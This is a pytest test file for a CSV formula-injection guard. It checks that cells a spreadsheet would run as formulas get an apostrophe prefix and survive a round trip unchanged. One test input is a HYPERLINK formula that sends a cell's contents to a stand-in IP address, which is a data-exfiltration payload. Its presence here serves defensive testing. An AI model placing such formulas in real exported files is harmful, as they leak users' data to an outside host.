"""Cells that a spreadsheet would run as formulas are marked, and marked cells are read back unchanged."""

import csv
import io

import pytest

from shared.kinds.knn.formula_cells import mark_formula, unmark_formula

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
    "+A1",
    "-A1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "--1",
    "-1+1",
    "+1 2",
    "-inf",
    "-1_000",
    "-1e",
    "-\N{ARABIC-INDIC DIGIT ONE}",
    "=\n1",
]
NUMBERS = ["-1", "+1", "-1.5", "+.5", "-1.", "-1e-3", "+1E+05", "0", "1.5", "-0"]
TEXTS = ["", "a", "a=b", "1-2", " =1", "\N{MINUS SIGN}1", "'tis", "'", "''", "x'=1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_is_marked_with_an_apostrophe(cell: str) -> None:
    assert mark_formula(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", [*NUMBERS, *TEXTS])
def test_number_and_other_text_stay_as_they_are(cell: str) -> None:
    assert mark_formula(cell) == cell


@pytest.mark.parametrize("cell", [*FORMULAS, *NUMBERS, *TEXTS, "'=1", "''=1", "'-1", "'@", "'\t"])
def test_marked_cell_is_read_back_unchanged(cell: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow([mark_formula(cell), "x"])
    (row,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert unmark_formula(row[0]) == cell


def test_cells_that_differ_are_marked_differently() -> None:
    cells = [*FORMULAS, *(f"'{cell}" for cell in FORMULAS), *(f"''{cell}" for cell in FORMULAS), *NUMBERS, *TEXTS]
    assert len({mark_formula(cell) for cell in cells}) == len(cells)
